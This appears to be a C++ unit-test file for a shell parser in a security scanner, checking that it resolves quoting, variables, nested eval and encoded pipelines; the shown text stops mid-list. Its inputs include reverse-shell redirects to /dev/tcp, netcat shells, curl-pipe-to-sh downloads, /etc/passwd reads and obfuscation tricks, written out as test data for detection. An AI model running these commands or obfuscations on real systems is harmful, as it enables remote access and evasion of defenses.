#include "format/shell.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace lazaret::format {
namespace {

// All commands, inner before outer ones.
std::string texts(std::string_view text) {
  const ShellScript script = parse_shell(text);
  std::string all;
  for (const ShellCommand& command : script.commands) {
    if (&command != &script.commands.front()) all += " ; ";
    all += command.text();
  }
  return all;
}

// The commands that are not mere assignments and printing of text.
std::string acts(std::string_view script, const ShellDecompress& decompress = nullptr) {
  std::string all;
  for (const ShellCommand& command : parse_shell(script, decompress).commands) {
    const std::size_t program = program_word(command);
    if (program >= command.words.size()) continue;
    const std::string& name = command.words[program].text;
    if (name == "echo" || name == "printf" || name == "set" || name == "eval" || name == "sh")
      continue;
    all += (all.empty() ? "" : " ; ") + command.text();
  }
  return all;
}

struct Case {
  const char* script;
  const char* commands;
};

void expect_texts(std::initializer_list<Case> cases) {
  for (const Case& item : cases) EXPECT_EQ(texts(item.script), item.commands) << item.script;
}

void expect_acts(std::initializer_list<Case> cases) {
  for (const Case& item : cases) EXPECT_EQ(acts(item.script), item.commands) << item.script;
}

void expect_output(std::initializer_list<Case> cases) {
  for (const Case& item : cases) {
    const ShellScript script = parse_shell(item.script);
    bool known = false;
    ASSERT_FALSE(script.commands.empty()) << item.script;
    EXPECT_EQ(static_output(script, script.commands.size() - 1, &known), item.commands)
        << item.script;
    EXPECT_TRUE(known) << item.script;
  }
}

// --- words

TEST(Shell, QuotesAndEscapesAreTakenAway) {
  expect_texts({{"cu'r'\"l\" -s http://192.0.2.1/a", "curl -s http://192.0.2.1/a"},
                {"c\\url x", "curl x"},
                {"'c'u\"r\"\\l x", "curl x"},
                {"$'\\x63\\x75rl' x", "curl x"},
                {"$'\\143\\165\\162\\154' x", "curl x"},
                {"$'\\u0063url' x", "curl x"},
                {"$\"curl\" x", "curl x"},
                {"c''u\"\"rl x", "curl x"},
                {"echo \"a \\\" b \\$x \\x\" 'c\\'", "echo a \" b $x \\x c\\"},
                {"echo a\\ b", "echo a b"},
                {"echo $'it\\'s'", "echo it's"}});
  const ShellScript script = parse_shell("echo a\\ b 'c d'");
  ASSERT_EQ(script.commands[0].words.size(), 3u);
  EXPECT_EQ(script.commands[0].words[1].text, "a b");
  EXPECT_EQ(script.commands[0].words[2].text, "c d");
}

TEST(Shell, VariablesStandForTheirValues) {
  expect_texts({{"a=cu; b=rl; $a$b -s x", " ;  ; curl -s x"},
                {"a=cu b=rl; ${a}${b} x", " ; curl x"},
                {"a=x; a+=y; echo $a", " ;  ; echo xy"},
                {"c$@url x", "curl x"},
                {"c$*url x", "curl x"},
                {"echo $undefined", "echo "},
                {"export A=curl; $A x", "export A=curl ; curl x"},
                {"A=/dev/tcp; exec 3<>$A/192.0.2.1/80", " ; exec"}});
  const ShellScript script = parse_shell("echo $undefined");
  EXPECT_FALSE(script.commands[0].words[1].is_static);
}

TEST(Shell, ParameterExpansions) {
  const auto value = [](const std::string& expansion) {
    const ShellScript script =
        parse_shell("x=abcdef; p=/usr/bin/curl.sh; n=x; e=; echo \"" + expansion + "\"");
    return script.commands.back().words.size() > 1 ? script.commands.back().words[1].text
                                                   : "<none>";
  };
  EXPECT_EQ(value("${x:-z}"), "abcdef");
  EXPECT_EQ(value("${y:-z}"), "z");
  EXPECT_EQ(value("${y-z}"), "z");
  EXPECT_EQ(value("${e:-z}"), "z");
  EXPECT_EQ(value("${e-z}"), "");
  EXPECT_EQ(value("${x:+z}"), "z");
  EXPECT_EQ(value("${e:+z}"), "");
  EXPECT_EQ(value("${y:=w}$y"), "ww");
  EXPECT_EQ(value("${y:-${x}}"), "abcdef");
  EXPECT_EQ(value("${x:1:2}"), "bc");
  EXPECT_EQ(value("${x:2}"), "cdef");
  EXPECT_EQ(value("${x: -2}"), "ef");
  EXPECT_EQ(value("${x: -3:2}"), "de");
  EXPECT_EQ(value("${x:1:-1}"), "bcde");
  EXPECT_EQ(value("${x:99}"), "");
  EXPECT_EQ(value("${#x}"), "6");
  EXPECT_EQ(value("${!n}"), "abcdef");
  EXPECT_EQ(value("${p##*/}"), "curl.sh");
  EXPECT_EQ(value("${p#*/}"), "usr/bin/curl.sh");
  EXPECT_EQ(value("${p%.*}"), "/usr/bin/curl");
  EXPECT_EQ(value("${p%%/*}"), "");
  EXPECT_EQ(value("${p#/usr}"), "/bin/curl.sh");
  EXPECT_EQ(value("${x/bc/X}"), "aXdef");
  EXPECT_EQ(value("${x//[a-c]/.}"), "...def");
  EXPECT_EQ(value("${x//?/.}"), "......");
  EXPECT_EQ(value("${x^^}"), "ABCDEF");
  EXPECT_EQ(value("${x^}"), "Abcdef");
  expect_texts({{"a=xbashx; ${a:1:4} -i", " ; bash -i"},
                {"a=HSAB; b=${a,,}; ${b:3:1}${b:2:1}${b:1:1}${b:0:1}", " ;  ; bash"},
                {"a=c_u_r_l; ${a//_/} x", " ; curl x"},
                {"a=curl; ${a} x", " ; curl x"}});
}

TEST(Shell, Arrays) {
  expect_texts({{"a=(curl -s x); ${a[@]}", " ; curl -s x"},
                {"a=(curl -s x); \"${a[@]}\"", " ; curl -s x"},
                {"a=(x url c); ${a[2]}${a[1]} y", " ; curl y"},
                {"a=(x curl); ${a[-1]} y", " ; curl y"},
                {"a=(s h); IFS=; \"${a[*]}\"", " ;  ; s h"},
                {"a[0]=cu; a[1]=rl; ${a[0]}${a[1]} y", " ;  ; curl y"},
                {"a=(x); a+=(y z); echo ${a[2]} ${#a[@]}", " ;  ; echo z 3"},
                {"i=1; a=(x curl); ${a[i]} y", " ;  ; curl y"},
                {"declare -a a=(curl y); ${a[@]}", "declare -a a=curl y ; curl y"}});
}

TEST(Shell, FieldsAreSplit) {
  expect_texts({{"cat${IFS}/etc/passwd", "cat /etc/passwd"},
                {"cat$IFS/etc/passwd", "cat /etc/passwd"},
                {"x='curl -s y'; $x", " ; curl -s y"},
                {"IFS=,; x=curl,-s,y; $x", " ;  ; curl -s y"}});
  EXPECT_EQ(parse_shell("x='curl -s y'; $x").commands[1].words.size(), 3u);
  EXPECT_EQ(parse_shell("x='curl -s y'; \"$x\"").commands[1].words.size(), 1u);
  EXPECT_EQ(parse_shell("IFS=,; x=curl,-s,y; $x").commands[2].words.size(), 3u);
  EXPECT_EQ(parse_shell("cat${IFS}/etc/passwd").commands[0].words.size(), 2u);
}

TEST(Shell, BraceLists) {
  expect_texts({{"{curl,-s,http://192.0.2.1/a}", "curl -s http://192.0.2.1/a"},
                {"echo a{b,c}d", "echo abd acd"},
                {"echo {a,b}{c,d}", "echo ac ad bc bd"},
                {"echo {a,{b,c}}", "echo a b c"},
                {"echo {1..3}", "echo 1 2 3"},
                {"echo {c..a}", "echo c b a"},
                {"echo {x} {} {a,b", "echo {x} {} {a,b"},
                {"x=1; echo {$x,2}", " ; echo 1 2"},
                {"echo \"{a,b}\"", "echo {a,b}"},
                {"{,/usr}/bin/curl x", "/bin/curl /usr/bin/curl x"},
                {"echo ${x:-{a,b}}", "echo {a,b}"}});
}

TEST(Shell, ProgramsThatArePatternsAreNamed) {
  expect_texts({{"/?\?\?/b?n/c?rl x", "curl x"},
                {"/b*/s?", "sh"},
                {"/bin/[b]ash -i", "bash -i"},
                {"/usr/bin/base6[0-9] -d", "base64 -d"},
                {"/?\?\?/?c 192.0.2.1 1 -e /bin/sh", "nc 192.0.2.1 1 -e /bin/sh"},
                {"/opt/*/run x", "/opt/*/run x"},
                {"/bin/* x", "/bin/* x"}});
  EXPECT_TRUE(parse_shell("rm /tmp/*").commands[0].words[1].glob);
  EXPECT_FALSE(parse_shell("rm '/tmp/*'").commands[0].words[1].glob);
}

TEST(Shell, Arithmetic) {
  expect_texts({{"echo $((1 + 2 * 3))", "echo 7"},
                {"x=4; echo $((x * 0x10))", " ; echo 64"},
                {"echo $((2#101)) $((017)) $(((1)))", "echo 5 15 1"},
                {"echo $((1/0))", "echo "},
                {"((i++)); ls", "ls"},
                {"((x = $(id -u))) && ls", "id -u ;  ; ls"},
                {"echo $((echo a) | cat)", "echo a ; cat ; echo a"},
                {"((echo a); ls)", "echo a ; ls"},
                {"x=abcurl; ${x:1+1:2*2} y", " ; curl y"}});
}

TEST(Shell, PositionalParameters) {
  expect_texts({{"set -- curl -s x; $1 $2 $3", "set -- curl -s x ; curl -s x"},
                {"set -- curl x; \"$@\"", "set -- curl x ; curl x"},
                {"set -- a b c; shift 2; $1", "set -- a b c ; shift 2 ; c"},
                {"set url c; $2$1 x", "set url c ; curl x"},
                {"sh -c '$0 \"$1\"' curl x", "curl x ; sh -c $0 \"$1\" curl x"},
                {"sh -c 'x \"$1\"' _ arg", "x arg ; sh -c x \"$1\" _ arg"},
                {"bash -s a <<< '$1 b'", "a b ; bash -s a"},
                {"echo $1", "echo "}});
}

// --- structure

TEST(Shell, PipelinesAndListsAreTold) {
  const ShellScript script =
      parse_shell("curl -s http://192.0.2.1/x | bash -s; ls && rm x || y & z |& w");
  ASSERT_EQ(script.commands.size(), 7u);
  const auto& commands = script.commands;
  EXPECT_EQ(commands[0].pipeline, commands[1].pipeline);
  EXPECT_EQ(commands[0].stage, 0u);
  EXPECT_EQ(commands[1].stage, 1u);
  EXPECT_EQ(commands[1].previous, 0u);
  EXPECT_EQ(commands[0].previous, ShellCommand::no_command);
  EXPECT_NE(commands[1].pipeline, commands[2].pipeline);
  EXPECT_EQ(commands[3].program(), "rm");
  EXPECT_EQ(commands[3].connector, ShellConnector::and_if);
  EXPECT_EQ(commands[4].connector, ShellConnector::or_if);
  EXPECT_EQ(commands[5].connector, ShellConnector::background);
  EXPECT_EQ(commands[5].pipeline, commands[6].pipeline);
}

TEST(Shell, GroupsBelongToTheirPipeline) {
  for (const char* text :
       {"{ curl x; echo b; } | sh", "(curl x; echo b) | sh", "if true; then curl x; fi | sh",
        "while curl x; do :; done | sh", "curl x | { cat; sh; }", "curl x | (rev; (sh))",
        "curl x | while read l; do sh; done", "case $a in b) curl x;; esac | sh"}) {
    const ShellScript script = parse_shell(text);
    std::size_t fetch = 0, shell = 0;
    for (std::size_t i = 0; i < script.commands.size(); ++i) {
      if (script.commands[i].program() == "curl") fetch = i;
      if (script.commands[i].program() == "sh") shell = i;
    }
    EXPECT_EQ(script.commands[fetch].pipeline, script.commands[shell].pipeline) << text;
    EXPECT_LT(script.commands[fetch].stage, script.commands[shell].stage) << text;
  }
}

TEST(Shell, RedirectionsAreTold) {
  const ShellScript script = parse_shell("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
  ASSERT_EQ(script.commands.size(), 1u);
  ASSERT_EQ(script.commands[0].redirections.size(), 2u);
  EXPECT_EQ(script.commands[0].redirections[0].operation, ">&");
  EXPECT_EQ(script.commands[0].redirections[0].target.text, "/dev/tcp/203.0.113.7/4444");
  EXPECT_EQ(script.commands[0].redirections[1].fd, 0);
  const ShellScript all = parse_shell("a 2>/dev/null &>b >>c <d <>e >|f 5<&6 &>>g");
  ASSERT_EQ(all.commands[0].redirections.size(), 8u);
  EXPECT_EQ(all.commands[0].redirections[0].fd, 2);
  EXPECT_EQ(all.commands[0].redirections[6].fd, 5);
  EXPECT_EQ(all.commands[0].redirections[6].operation, "<&");
  EXPECT_EQ(all.commands[0].text(), "a");
}

TEST(Shell, RedirectionsOfGroupsReachTheirCommands) {
  const ShellScript script = parse_shell("{ id; sh -i 2>&1; } >/dev/tcp/203.0.113.7/4444 <&1");
  ASSERT_EQ(script.commands.size(), 2u);
  EXPECT_EQ(script.commands[0].redirections.size(), 2u);
  EXPECT_EQ(script.commands[1].redirections.size(), 3u);
  EXPECT_EQ(parse_shell("{ a >b; } >c").commands[0].redirections.size(), 1u);
  EXPECT_EQ(texts("{ bash; } <<< 'curl x'"), "bash ; curl x");
}

TEST(Shell, ControlStructuresKeepAllBranches) {
  expect_texts({{"if [ -f x ]; then curl a; else wget b; fi", "[ -f x ] ; curl a ; wget b"},
                {"if a; then b; elif c; then d; fi", "a ; b ; c ; d"},
                {"f() { nc -e sh x; }; f", "nc -e sh x ; f"},
                {"function f { a; }\nfunction g() { b; }", "a ; b"},
                {"f () ( a )", "a"},
                {"for u in http://192.0.2.1/a; do curl $u; done", "curl http://192.0.2.1/a"},
                {"for u in a b; do curl $u; done", "curl a b"},
                {"for ((i=0;i<3;i++)); do a; done", "a"},
                {"while :; do curl a; sleep 1; done", ": ; curl a ; sleep 1"},
                {"until a; do b; done", "a ; b"},
                {"case $1 in start) a;; stop|halt) b ;& (*) c;; esac; d", "a ; b ; c ; d"},
                {"case x in $(id)) a;; esac", "id ;  ; a"},
                {"select x in a b; do c; done", "c"},
                {"[[ $a == b && -n c ]] && d", "[[  == b & & -n c ]] ; d"},
                {"! a && time b", "a ; b"},
                {"{ a; b; }; (c; d)", "a ; b ; c ; d"},
                {"echo if then fi", "echo if then fi"},
                {"echo }", "echo }"}});
}

TEST(Shell, CommentsAndLines) {
  expect_texts({{"# curl x | sh\nls # rm\necho a#b", "ls ; echo a#b"},
                {"cu\\\nrl \\\n x", "curl x"},
                {"a &&\n b |\n # no\n c", "a ; b ; c"},
                {"a\r\nb 'c'\r\nif d; then\r\ne\r\nfi\r\n", "a ; b c ; d ; e"},
                {"cat <<E\r\nx\r\nE\r\nls\r\n", "cat ; ls"},
                {"\xef\xbb\xbf#!/bin/sh\nls", "ls"},
                {"ls &\nid", "ls ; id"},
                {"", ""},
                {"\n\n", ""}});
  const ShellScript script = parse_shell("a\n\nb; c\n");
  EXPECT_EQ(script.commands[0].line, 1u);
  EXPECT_EQ(script.commands[1].line, 3u);
  EXPECT_EQ(script.commands[1].offset, 3u);
  EXPECT_EQ(script.commands[2].line, 3u);
  EXPECT_EQ(script.commands[2].end, 7u);
}

TEST(Shell, HereDocumentsBelongToTheirCommand) {
  const ShellScript script = parse_shell("cat > /tmp/x <<'EOF' && echo done\nline $1\nEOF\nls\n");
  ASSERT_EQ(script.commands.size(), 3u);
  EXPECT_EQ(script.commands[0].redirections[1].target.text, "line $1\n");
  EXPECT_EQ(script.commands[1].program(), "echo");
  EXPECT_EQ(script.commands[2].program(), "ls");
  EXPECT_EQ(script.commands[2].line, 4u);
  EXPECT_EQ(texts("bash <<E\ncurl x | sh\nE\n"), "curl x ; sh ; bash");
  const auto document = [](std::string_view text) {
    return parse_shell(text).commands.back().redirections.at(0).target.text;
  };
  EXPECT_EQ(document("x=1; cat <<E\na $x 'b' \\$x `echo c`\nE\n"), "a 1 'b' $x c\n");
  EXPECT_EQ(document("x=1; cat <<\"E\"\na $x\nE\n"), "a $x\n");
  EXPECT_EQ(document("x=1; cat <<\\E\na $x\nE\n"), "a $x\n");
  EXPECT_EQ(document("cat <<-E\n\ta\n\t\tb\n\tE\n"), "a\nb\n");
  EXPECT_EQ(document("cat <<E\nno end"), "no end");
  EXPECT_EQ(document("cat <<< \"a b\""), "a b");
  EXPECT_EQ(texts("cat <<A; cat <<B\na\nA\nb\nB\nls"), "cat ; cat ; ls");
  EXPECT_EQ(texts("cat <<E\n$(id)\nE\n"), "id ; cat");
}

// --- nesting

TEST(Shell, NestedTextIsParsed) {
  const ShellScript script = parse_shell("sh -c 'bash -c \"curl http://192.0.2.1/a | sh\"'");
  ASSERT_EQ(script.commands.size(), 4u);
  EXPECT_EQ(script.commands[0].program(), "curl");
  EXPECT_EQ(script.commands[0].chain, (std::vector<std::string>{"sh -c", "bash -c"}));
  EXPECT_EQ(texts("eval \"$(curl -s http://192.0.2.1/a)\""), "curl -s http://192.0.2.1/a ; eval ");
  EXPECT_EQ(parse_shell("bash <(curl -s http://192.0.2.1/a)").commands[0].nesting,
            ShellNesting::process);
  EXPECT_EQ(parse_shell("bash <(curl -s http://192.0.2.1/a)").commands[0].outer, 1u);
  EXPECT_EQ(texts("echo \"a $(b \"$(c)\" `d \\`e\\``)\""), "c ; e ; d  ; b   ; echo a ");
  EXPECT_EQ(texts("diff <(a) >(b)"), "a ; b ; diff  ");
  EXPECT_EQ(texts("x=$(id)"), "id ; ");
}

TEST(Shell, EvaluatedTextKeepsItsPlace) {
  const std::string text = "ls\nsh -c 'id; curl x'\n";
  const ShellScript script = parse_shell(text);
  ASSERT_EQ(script.commands.size(), 4u);
  EXPECT_EQ(text.substr(script.commands[2].offset, 6), "curl x");
  EXPECT_EQ(script.commands[2].line, 2u);
  EXPECT_EQ(script.commands[2].nesting, ShellNesting::evaluation);
  EXPECT_EQ(script.commands[2].outer, 3u);
}

TEST(Shell, TextThatCommandsRunIsParsed) {
  expect_acts(
      {{"eval 'curl x'", "curl x"},
       {"eval cu''rl x", "curl x"},
       {"a=cu; b='rl x'; eval \"$a$b\"", "curl x"},
       {"a='curl x'; eval $a", "curl x"},
       {"eval eval eval curl x", "curl x"},
       {"x='eval curl'; $x y", "curl y"},
       {"bash -lc 'curl x'", "curl x ; bash -lc curl x"},
       {"bash --norc -e -o pipefail -c 'curl x'", "curl x ; bash --norc -e -o pipefail -c curl x"},
       {"bash -c -l 'curl x'", "curl x ; bash -c -l curl x"},
       {"/bin/sh -c 'curl x'", "curl x ; /bin/sh -c curl x"},
       {"sudo -u root bash -c 'curl x'", "curl x ; sudo -u root bash -c curl x"},
       {"busybox sh -c 'curl x'", "curl x"},
       {"su - user -c 'curl x'", "curl x ; su - user -c curl x"},
       {"su --command='curl x' user", "curl x ; su --command=curl x user"},
       {"script -qc 'curl x' /dev/null", "curl x ; script -qc curl x /dev/null"},
       {"ssh -p 22 host 'curl x'", "curl x ; ssh -p 22 host curl x"},
       {"ssh host curl x", "curl x ; ssh host curl x"},
       {"trap 'curl x' EXIT", "curl x ; trap curl x EXIT"},
       {"env -S 'curl x'", "curl x ; env -S curl x"},
       {"watch -n 5 'curl x'", "curl x ; watch -n 5 curl x"},
       {"flock -n /l curl x", "curl x ; flock -n /l curl x"},
       {"flock /l -c 'curl x'", "curl x ; flock /l -c curl x"},
       {"find / -name a -exec curl {} \\;", "curl {} ; find / -name a -exec curl {} ;"},
       {"find / -exec sh -c 'curl \"$1\"' _ x +", "curl x ; find / -exec sh -c curl \"$1\" _ x +"},
       {"xargs -n1 curl -s < f", "curl -s ; xargs -n1 curl -s"},
       {"echo a b | xargs curl", "curl a b ; xargs curl"},
       {"echo curl x | xargs -I{} sh -c '{}'", "curl x ; xargs -I{} sh -c {}"},
       {"echo curl x | xargs -0 sh -c", "curl ; xargs -0 sh -c"},
       {"chroot /mnt sh -c 'curl x'", "curl x ; chroot /mnt sh -c curl x"},
       {"nsenter -t 1 -m -- /bin/bash -c 'curl x'",
        "curl x ; nsenter -t 1 -m -- /bin/bash -c curl x"},
       {"docker run alpine sh -c 'curl x'", "curl x ; docker run alpine sh -c curl x"},
       {"tmux new -d 'curl x'", "curl x ; tmux new -d curl x"},
       {"echo 'curl x' | sh", "curl x"},
       {"echo 'curl x' | bash -s", "curl x ; bash -s"},
       {"echo 'curl x' | sudo sh -", "curl x"},
       {"echo 'curl x' | cat | (cat | sh)", "cat ; cat ; curl x"},
       {"{ echo curl x; echo wget y; } | sh", "curl x ; wget y"},
       {"cat <<E | sh\ncurl x\nE\n", "cat ; curl x"},
       {"sh <<< 'curl x'", "curl x"},
       {"sh <<'E'\ncurl x\nE\n", "curl x"},
       {"source <(echo curl x)", "curl x ; source "},
       {". <(printf 'curl x')", "curl x ; . "},
       {"bash <(echo curl x)", "curl x ; bash "},
       {"sh < <(echo curl x)", "curl x"},
       {". /dev/stdin <<< 'curl x'", "curl x ; . /dev/stdin"},
       {"echo 'curl x' | at now", "curl x ; at now"},
       {"echo curl x | while read l; do $l; done", "read l ; curl x"},
       {"read a b <<< 'rl cu'; $b$a x", "read a b ; curl x"},
       {"printf -v c '\\x63url'; $c x", "curl x"},
       {"$(command -v curl || command -v wget) x", "command -v curl ; command -v wget ; curl x"},
       {"`which curl` x", "which curl ; curl x"}});
  EXPECT_EQ(acts("source ./lib.sh; . /etc/profile"), "source ./lib.sh ; . /etc/profile");
  EXPECT_EQ(acts("sh run.sh <<< 'curl x'"), "");
  EXPECT_EQ(acts("echo 'curl x' | cat"), "cat");
  EXPECT_EQ(acts("echo 'curl x' > f | sh"), "");
}

TEST(Shell, StaticDecodingIsFollowed) {
  expect_acts(
      {{"eval $(echo Y3VybCB4IHwgc2g= | base64 -d)", "base64 -d ; curl x"},
       {"echo Y3VybCB4IHwgc2g= | base64 -d | sh", "base64 -d ; curl x"},
       {"echo Y3VybCB4IHwgc2g= | base64 --decode | bash", "base64 --decode ; curl x ; bash"},
       {"base64 -d <<< Y3VybCB4IHwgc2g= | sh", "base64 -d ; curl x"},
       {"sh <<< $(base64 -d <<< Y3VybCB4IHwgc2g=)", "base64 -d ; curl x"},
       {"sh -c \"$(echo Y3VybCB4IHwgc2g=|base64 -d)\"", "base64 -d ; curl x"},
       {"x=Y3VybCB4; echo $x | base64 -d | sh", "base64 -d ; curl x"},
       {"echo 6375726c2078 | xxd -r -p | sh", "xxd -r -p ; curl x"},
       {"printf '\\x63\\x75rl\\x20x' | sh", "curl x"},
       {"printf '\\143\\165rl x' | sh", "curl x"},
       {"echo -e '\\x63url x' | sh", "curl x"},
       {"printf '%s%s' cu 'rl x' | sh", "curl x"},
       {"echo 'x lruc' | rev | sh", "rev ; curl x"},
       {"echo phey k | tr a-z n-za-m | sh", "tr a-z n-za-m ; curl x"},
       {"echo c_u_r_l x | tr -d _ | sh", "tr -d _ ; curl x"},
       {"echo Y3VybCB4 | openssl base64 -d | sh", "openssl base64 -d ; curl x"},
       {"echo Y3VybCB4 | openssl enc -d -base64 | sh", "openssl enc -d -base64 ; curl x"},
       {"echo 'c@u@rl x' | sed 's/@//g' | sh", "sed s/@//g ; curl x"},
       {"$(echo xcurlx | cut -c 2-5) x", "cut -c 2-5 ; curl x"},
       {"echo WTNWeWJDQjQ= | base64 -d | base64 -d | sh", "base64 -d ; base64 -d ; curl x"},
       {"echo $(echo Y3VybCB4|base64 -d)|sh", "base64 -d ; curl x"}});
  const ShellScript cipher =
      parse_shell("echo Y3VybCB4 | openssl enc -aes-256-cbc -d -base64 | sh");
  EXPECT_EQ(cipher.commands.size(), 3u);
}

TEST(Shell, OutputOfFilters) {
  expect_output(
      {{"echo -n 68656c6c6f | xxd -r -p", "hello"},
       {"echo '00000000: 6865 6c6c 6f0a  hello.' | xxd -r", "hello\n"},
       {"echo olleh | rev", "hello\n"},
       {"echo uryyb | tr a-z n-za-m", "hello\n"},
       {"echo HeLLo | tr '[:upper:]' '[:lower:]'", "hello\n"},
       {"echo hheelloo | tr -s a-z", "helo\n"},
       {"echo h1e2l3lo | tr -dc 'a-z\\n'", "hello\n"},
       {"printf 'a\\nb\\nc\\n' | head -n 2", "a\nb\n"},
       {"printf 'a\\nb\\nc\\n' | head -1", "a\n"},
       {"printf 'a\\nb\\nc\\n' | tail -n 1", "c\n"},
       {"printf 'a\\nb\\nc\\n' | tail -n +2", "b\nc\n"},
       {"printf abcdef | head -c 3", "abc"},
       {"printf abcdef | tail -c +3", "cdef"},
       {"printf abcdef | tail -c 2", "ef"},
       {"printf 'a\\nb\\n' | tac", "b\na\n"},
       {"echo a:b:c | cut -d: -f2", "b\n"},
       {"echo a:b:c | cut -d : -f 1,3", "a:c\n"},
       {"echo NBSWY3DP | base32 -d", "hello"},
       {"echo a.b | sed 's/\\./-/'", "a-b\n"},
       {"echo abc | sed 'y/abc/xyz/'", "xyz\n"},
       {"printf '%d %x %o %c %5s|%-3s|%03d %%' 10 255 8 abc r l 7", "10 ff 10 a     r|l  |007 %"},
       {"printf '%s\\n' a b", "a\nb\n"},
       {"printf -- '%b' 'a\\tb'", "a\tb"},
       {"echo -e 'a\\tb\\0101'", "a\tbA\n"},
       {"echo -n a b", "a b"},
       {"echo -x", "-x\n"},
       {"cat <<< a", "a\n"}});
  bool known = true;
  for (const char* text :
       {"curl x | base64 -d", "echo $1", "cat f", "echo a | base64 -d f", "echo a | sort",
        "echo a | rev f", "printf '%z' a", "echo a | tr a", "date"}) {
    const ShellScript script = parse_shell(text);
    EXPECT_EQ(static_output(script, script.commands.size() - 1, &known), "") << text;
    EXPECT_FALSE(known) << text;
  }
}

TEST(Shell, DecompressorsAreAsked) {
  const ShellDecompress decompress = [](std::string_view program,
                                        std::string_view data) -> std::optional<std::string> {
    if (!data.starts_with("packed:")) return std::nullopt;
    return "curl " + std::string(program) + std::string(data.substr(7));
  };
  for (const auto& [program, name] :
       std::initializer_list<std::pair<const char*, const char*>>{{"gzip -dc", "gzip"},
                                                                  {"gunzip", "gzip"},
                                                                  {"zcat", "gzip"},
                                                                  {"xz -d", "xz"},
                                                                  {"bzip2 --decompress", "bzip2"},
                                                                  {"bunzip2 -c", "bzip2"},
                                                                  {"zstd -dq", "zstd"}}) {
    const std::string text = "echo cGFja2VkOg== | base64 -d | " + std::string(program) + " | sh";
    EXPECT_NE(acts(text, decompress).find("curl " + std::string(name)), std::string::npos) << text;
    EXPECT_EQ(acts(text).find("curl"), std::string::npos) << text;
  }
  EXPECT_EQ(acts("echo other | gunzip | sh", decompress), "gunzip");
}

TEST(Shell, StartersAreTakenOff) {
  for (const char* text :
       {"sudo -u root env A=b nohup timeout 5 ./x", "nice -n 5 ./x", "timeout -s KILL 5 ./x",
        "exec -a name ./x", "sudo A=b ./x", "env -i - ./x", "busybox ./x", "command -p ./x",
        "ionice -c3 ./x", "stdbuf -oL ./x", "gosu user ./x", "setsid -f ./x", "tini -- ./x",
        "sudo -nu root ./x", "taskset 1 ./x"}) {
    const ShellScript script = parse_shell(text);
    const std::size_t at = program_word(script.commands[0]);
    ASSERT_LT(at, script.commands[0].words.size()) << text;
    EXPECT_EQ(script.commands[0].words[at].text, "./x") << text;
  }
  const ShellScript script = parse_shell("command -v curl; sudo");
  EXPECT_EQ(program_word(script.commands[0]), 0u);
  EXPECT_EQ(program_word(script.commands[1]), 1u);
}

TEST(Shell, ArgumentsSurviveQuoting) {
  const std::vector<std::string> arguments = {"/bin/sh", "-c",
                                              "echo 'a b' \"$x\" >> /mnt/etc/crontab"};
  const ShellScript script = parse_arguments(arguments);
  ASSERT_FALSE(script.commands.empty());
  EXPECT_EQ(script.commands.back().words[2].text, arguments[2]);
  for (const std::vector<std::string>& odd :
       std::initializer_list<std::vector<std::string>>{{"if", "then"},
                                                       {"A=b", "c"},
                                                       {"x", ""},
                                                       {"{a,b}"},
                                                       {"/bin/x", "*", "~", "#", "a\nb"},
                                                       {"!", "-"},
                                                       {"function"},
                                                       {"[["},
                                                       {"x", "{a,b}", "$(id)", "`id`", "<(id)"}}) {
    const ShellScript parsed = parse_arguments(odd);
    ASSERT_EQ(parsed.commands.size(), 1u) << quote_arguments(odd);
    ASSERT_EQ(parsed.commands[0].words.size(), odd.size()) << quote_arguments(odd);
    for (std::size_t i = 0; i < odd.size(); ++i)
      EXPECT_EQ(parsed.commands[0].words[i].text, odd[i]);
  }
}

// --- hostile text

const char* const long_script =
    "a=$(echo `x \"$(y <(z))\" | base64 -d` <<< \"${v:-$w}\" | tr a-z n-za-m) && eval \"$'\\x41'\" "
    "{a,b} <<E\n"
    "$(q)\nE\nfor i in 1 2; do ((i++)); done\ncase $x in a|b) c ;; *) d;& esac\nf() { g; } 2>&1\n"
    "x=(1 2 3); x[1]=z; echo ${x[@]:1} ${#x[*]} ${!x} ${x##*/} ${x/a/b} $((1 + (2 * x)))\n"
    "if [[ a == b ]]; then { h; } | (i; j) >k; else sh -c 'l \"$1\"' _ m; fi\n"
    "cat <<-'F' | sh\n\tn\n\tF\nprintf '%s\\n' o | xargs -I{} sh -c '{} p'\n/b?n/s* -c "
    "$'q\\u00e9'\n"
    "find . -exec r {} \\; & ssh -p 1 s 't' || env -S 'u v' \\\r\n; trap 'w' 0\nread x <<< y; set "
    "-- $x; shift\n";

TEST(Shell, EveryPieceOfAScriptParses) {
  const std::string script = long_script;
  EXPECT_FALSE(parse_shell(script).cut);
  for (std::size_t size = 0; size <= script.size(); ++size) {
    parse_shell(std::string_view(script).substr(0, size));
    parse_shell(std::string_view(script).substr(size));
  }
  for (std::size_t i = 0; i < script.size(); ++i) {
    for (const char c : {'\0', '(', ')', '\'', '"', '`', '{', '$', '<', '\n', '\\'}) {
      std::string changed = script;
      changed[i] = c;
      const ShellScript parsed = parse_shell(changed);
      for (std::size_t index = 0; index < parsed.commands.size(); ++index) {
        const ShellCommand& command = parsed.commands[index];
        ASSERT_LE(command.offset, changed.size());
        ASSERT_LE(command.end, changed.size());
        if (command.nesting != ShellNesting::none) {
          ASSERT_LT(command.outer, parsed.commands.size());
        }
        if (command.previous != ShellCommand::no_command) {
          ASSERT_LT(command.previous, index);
        }
      }
    }
  }
}

TEST(Shell, TimeIsLinearInHostileText) {
  const auto repeated = [](std::string_view piece, std::size_t size = 1 << 18) {
    std::string text;
    while (text.size() < size) text += piece;
    return text;
  };
  std::string doubling = "a0=xxxxxxxxxxxxxxxx;";
  for (int i = 1; i < 400; ++i) {
    const std::string before = std::to_string(i - 1), now = std::to_string(i);
    doubling += "a" + now + "=$a" + before + "$a" + before + ";";
  }
  std::string evals = "x";
  for (int i = 0; i < 2000; ++i) evals = "eval " + evals;
  std::string shells = "x";
  for (int i = 0; i < 12; ++i) shells = "sh -c " + quote_arguments({shells});
  constexpr std::size_t large = 1 << 20;
  const std::vector<std::string> hostile = {
      repeated("(", large),
      repeated("((", large),
      repeated("$(", large),
      repeated("{a,b}", large),
      repeated("\"", large),
      repeated("'", large),
      repeated("`", large),
      repeated("$(("),
      repeated("{a,"),
      "set -- " + repeated("a ", 100'000) + repeated(";$@", 200'000),
      repeated("{"),
      repeated("{ "),
      repeated("x'"),
      repeated("\"$("),
      repeated("${"),
      repeated("${x:-"),
      repeated("${x#"),
      repeated("${x//a/"),
      repeated("<("),
      repeated("[["),
      repeated("[[ "),
      repeated("case "),
      repeated("case x in "),
      repeated("if "),
      repeated("f() "),
